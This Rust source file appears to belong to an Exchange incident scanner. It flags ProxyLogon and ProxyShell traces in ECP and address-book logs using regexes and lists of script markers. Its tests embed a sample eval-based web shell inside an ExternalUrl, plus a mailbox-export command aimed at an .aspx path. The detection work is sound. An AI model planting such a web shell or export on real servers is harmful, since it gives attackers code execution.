//! Judges lines of the logs that are no web logs: ECP (server and activity) and the download of the address book.

use crate::finding::{Finding, Kind, Verdict};
use crate::{text, times};
use regex::bytes::Regex;

/// The rules that are built once.
#[derive(Debug)]
pub struct LineRules {
    /// CVE-2021-27065 in the ECP server log. Microsoft's expression has two look-aheads; this one, without, finds the same lines.
    shell: Regex,
    /// CVE-2021-26858: `Download failed and temporary file (.*?) needs to be removed`.
    download: Regex,
}

impl LineRules {
    /// Builds them.
    pub fn new() -> Result<Self, regex::Error> {
        Ok(Self {
            shell: Regex::new(
                r"(?i-u)Set-.+VirtualDirectory.+?Url.*<\w+.*>(.*?)</\w+>.+?VirtualDirectory",
            )?,
            download: Regex::new(
                r"(?i-u)Download failed and temporary file (.*?) needs to be removed",
            )?,
        })
    }

    /// A line of the ECP server log: script in the address of a virtual directory. The reset alone is an administrator's right.
    pub fn ecp(&self, line: &[u8]) -> Option<Finding> {
        // A line that was cut off after its command does not match Microsoft's expression, but its command tells enough.
        if !self.shell.is_match(line) && !sets_script(line) {
            return None;
        }
        let from = text::find(line, "set-").unwrap_or(0);
        let detail = text::clean_bytes(line.get(from..).unwrap_or(line));
        let at = line
            .split(|byte| *byte == b',')
            .next()
            .and_then(times::read);
        Some(
            Finding::new(Kind::ShellInConfiguration, Verdict::Incident, &detail)
                .cve("CVE-2021-27065")
                .step(5)
                .at(at),
        )
    }

    /// A line of the address book's log: the download must have gone below the folder of Exchange.
    pub fn oab(&self, line: &[u8], install: &str) -> Option<Finding> {
        let path = self.download.captures(line)?.get(1)?.as_bytes();
        let expected = format!(r"'{}\ClientAccess\OAB", install.trim_end_matches('\\'));
        let good = path
            .get(..expected.len())
            .is_some_and(|start| start.eq_ignore_ascii_case(expected.as_bytes()));
        if good {
            return None;
        }
        let path = text::clean_bytes(path);
        let file = path.trim_matches('\'').to_string();
        let at = line
            .split(|byte| *byte == b',')
            .next()
            .and_then(times::read);
        let key = crate::places::key(&file);
        Some(
            Finding::new(Kind::ForeignDownload, Verdict::Incident, &file)
                .cve("CVE-2021-26858")
                .step(6)
                .at(at)
                .subject(&crate::places::address_of_key(&key)),
        )
    }
}

/// Whether a command sets an address of a virtual directory to a script. Commas and quotes do not matter here.
pub fn sets_script(line: &[u8]) -> bool {
    let Some(set) = text::find(line, "set-").and_then(|at| line.get(at..)) else {
        return false;
    };
    let Some(directory) = text::find(set, "virtualdirectory")
        .filter(|at| *at < 40)
        .and_then(|at| set.get(at..))
    else {
        return false;
    };
    let addressed =
        text::contains(directory, "externalurl") || text::contains(directory, "internalurl");
    addressed
        && ["<script", "<%", "%3cscript", "%3c%25", "runat="]
            .iter()
            .any(|sign| text::contains(directory, sign))
}

/// Whether a command exports a mailbox or a certificate request into a file that the web server would run (ProxyShell, CVE-2021-31207).
pub fn exports_script(text_of_command: &[u8]) -> bool {
    let export = ["new-mailboxexportrequest", "new-exchangecertificate"]
        .iter()
        .any(|command| text::contains(text_of_command, command));
    let path = ["filepath", "requestfile"]
        .iter()
        .any(|parameter| text::contains(text_of_command, parameter));
    export
        && path
        && [".aspx", ".ashx", ".asmx", ".asp\"", ".asp'", ".asp "]
            .iter()
            .any(|ending| text::contains(text_of_command, ending))
}

#[cfg(test)]
mod tests {
    use super::*;

    const INSTALL: &str = r"C:\Program Files\Microsoft\Exchange Server\V15\";

    #[test]
    fn ecp_lines() {
        let rules = LineRules::new().unwrap();
        let whole = "2021-03-03T05:01:12.345Z,MAIL01,ECP.Request,\"S:TIME=812;S:SID=x;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"x\"\"],\"\"unsafe\"\");}</script>''.Identity=''y''';S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:EX=;S:BLD=15.1.2106.2\"";
        let found = rules.ecp(whole.as_bytes()).unwrap();
        assert_eq!(
            (
                found.step,
                found.verdict,
                found.at.unwrap().to_string().as_str()
            ),
            (Some(5), Verdict::Incident, "2021-03-03T05:01:12.345Z")
        );
        let cut = whole.split(";S:URL=").next().unwrap();
        assert!(!rules.shell.is_match(cut.as_bytes()) && rules.ecp(cut.as_bytes()).is_some());
        for genuine in [
            "2023-01-11T00:02:33.966Z,S,ECP.Request,S:TIME=13;S:CMD=Get-InboxRule;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList?x;S:BLD=15.1.2375.7",
            "2023-01-11T00:02:33.966Z,S,ECP.Request,S:CMD=Set-OabVirtualDirectory.ExternalUrl='https://mail.firma.example/OAB'.Identity='OAB';S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:EX=",
            "2023-01-11T00:02:33.966Z,S,ECP.Request,S:CMD=Remove-OabVirtualDirectory;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory",
        ] {
            assert!(rules.ecp(genuine.as_bytes()).is_none(), "{genuine}");
        }
    }

    #[test]
    fn downloads_of_the_address_book() {
        let rules = LineRules::new().unwrap();
        let line = |path: &str| {
            format!(
                "2021-03-03T05:00:00.000Z,x,Download failed and temporary file '{path}' needs to be removed, y"
            )
        };
        for (path, bad) in [
            (r"C:\inetpub\wwwroot\aspnet_client\x.aspx", true),
            (
                r"C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB\Temp\x.lzx",
                false,
            ),
            (
                r"c:\program files\microsoft\exchange server\v15\clientaccess\oab\temp\x.lzx",
                false,
            ),
            (r"D:\x.aspx", true),
        ] {
            assert_eq!(
                rules.oab(line(path).as_bytes(), INSTALL).is_some(),
                bad,
                "{path}"
            );
        }
        let found = rules
            .oab(
                line(r"C:\inetpub\wwwroot\aspnet_client\X.aspx").as_bytes(),
                INSTALL,
            )
            .unwrap();
        assert_eq!(
            (found.cve, found.step, found.subject.as_deref()),
            (
                Some("CVE-2021-26858"),
                Some(6),
                Some("/aspnet_client/x.aspx")
            )
        );
    }

    #[test]
    fn exports() {
        assert!(exports_script(br#"Cmdlet New-MailboxExportRequest, parameters -Mailbox "a" -FilePath "\\127.0.0.1\C$\inetpub\wwwroot\aspnet_client\x.aspx""#));
        assert!(!exports_script(br#"Cmdlet New-MailboxExportRequest, parameters -Mailbox "a" -FilePath "\\nas\pst\anna.pst""#));
    }
}
